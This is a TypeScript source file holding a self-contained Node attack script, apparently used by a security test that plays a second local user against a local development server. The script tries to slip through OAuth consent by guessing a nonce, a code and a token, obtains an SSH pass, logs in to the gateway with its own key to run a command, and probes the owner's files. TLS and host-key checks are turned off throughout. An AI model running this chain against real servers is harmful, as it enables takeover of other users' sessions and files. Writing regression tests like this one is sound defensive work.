// The attack another local user could run against someone's local server (issue 11), as the
// source of a script for runAsOtherUser: sign in (auto-approve, then the consent page), guess a
// consent nonce, a code and a token, get a pass, log in to the gateway with a key of its own,
// and read the owner's files. Each step that gets something goes on to use it, so against a
// server that lets anyone in it ends with a shell. Prints one JSON object: what each step got.
// Self-contained (node: modules only): it runs from a temp dir as `nobody`.
export const OTHER_USER_ATTACK = String.raw`
import crypto from 'node:crypto';
import fs from 'node:fs';
import https from 'node:https';
import { spawnSync } from 'node:child_process';

const [endpoint, gatewayPort, workspaceId, workspaceName, ...files] = process.argv.slice(2);
const out = {};
const req = (method, path, { body, form, token, headers = {} } = {}) =>
  new Promise((resolve) => {
    const data = form ? new URLSearchParams(form).toString() : body ? JSON.stringify(body) : undefined;
    const h = { ...headers };
    if (data) h['content-type'] = form ? 'application/x-www-form-urlencoded' : 'application/json';
    if (token) h.authorization = 'Bearer ' + token;
    // An attacker does not need to trust the CA (it cannot read it anyway).
    const r = https.request(new URL(path, endpoint), { method, headers: h, rejectUnauthorized: false, timeout: 10000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode, location: res.headers.location, text }));
    });
    r.on('timeout', () => r.destroy(new Error('timeout')));
    r.on('error', (e) => resolve({ status: 0, text: String(e.message) }));
    r.end(data);
  });
const b64 = (b) => b.toString('base64url');
const verifier = b64(crypto.randomBytes(32));
const challenge = b64(crypto.createHash('sha256').update(verifier).digest());
const redirect = 'http://127.0.0.1:45999/callback';
const q = new URLSearchParams({ response_type: 'code', client_id: 'runcode-desktop', redirect_uri: redirect,
  state: 'st', code_challenge: challenge, code_challenge_method: 'S256' });

let code;
const a = await req('GET', '/oauth/authorize?' + q);
out.authorize = { status: a.status, consentForm: /name="request"/.test(a.text) };
if (a.location) code = new URL(a.location).searchParams.get('code') ?? undefined;
const page = await req('GET', '/oauth/authorize?' + q, { headers: { accept: 'text/html' } });
out.consentPage = { status: page.status, consentForm: /name="request"/.test(page.text) };
const nonce = /name="request" value="([^"]+)"/.exec(a.text + page.text)?.[1] ?? b64(crypto.randomBytes(32));
const action = (/<form method="post" action="([^"]+)"/.exec(page.text)?.[1] ?? '/oauth/authorize').replace(/&amp;/g, '&');
const c = await req('POST', action, { form: { request: nonce, decision: 'approve' } });
out.consent = { status: c.status, redirected: Boolean(c.location) };
if (!code && c.location) code = new URL(c.location).searchParams.get('code') ?? undefined;
const guess = await req('POST', '/oauth/token', { body: { grant_type: 'authorization_code', code: b64(crypto.randomBytes(32)),
  redirect_uri: redirect, client_id: 'runcode-desktop', code_verifier: verifier } });
out.guessedCode = { status: guess.status, token: /access_token/.test(guess.text) };
let token = b64(crypto.randomBytes(32));
out.gotCode = Boolean(code);
if (code) {
  const t = await req('POST', '/oauth/token', { body: { grant_type: 'authorization_code', code, redirect_uri: redirect,
    client_id: 'runcode-desktop', code_verifier: verifier } });
  try { token = JSON.parse(t.text).access_token ?? token; out.gotToken = true; } catch { out.gotToken = false; }
}
spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', 'key']);
const pub = fs.readFileSync('key.pub', 'utf8').trim();
const list = await req('GET', '/api/v1/workspaces', { token });
out.workspaces = { status: list.status };
const pass = await req('POST', '/api/v1/workspaces/' + workspaceId + '/ssh-pass', { token, body: { publicKey: pub } });
out.pass = { status: pass.status };
let user = workspaceName;
try { user = JSON.parse(pass.text).user ?? user; } catch {}
const ssh = spawnSync('ssh', ['-F', '/dev/null', '-i', 'key', '-p', gatewayPort, '-o', 'BatchMode=yes',
  '-o', 'IdentitiesOnly=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
  '-o', 'ConnectTimeout=20', user + '@127.0.0.1', 'id'], { encoding: 'utf8', timeout: 30000 });
out.ssh = { status: ssh.status, stdout: ssh.stdout, stderr: (ssh.stderr ?? '').trim().split('\n').at(-1) };
out.files = files.map((f) => { try { fs.readFileSync(f); return { file: f, read: true }; } catch (e) { return { file: f, read: false, code: e.code }; } });
console.log(JSON.stringify(out));
`;
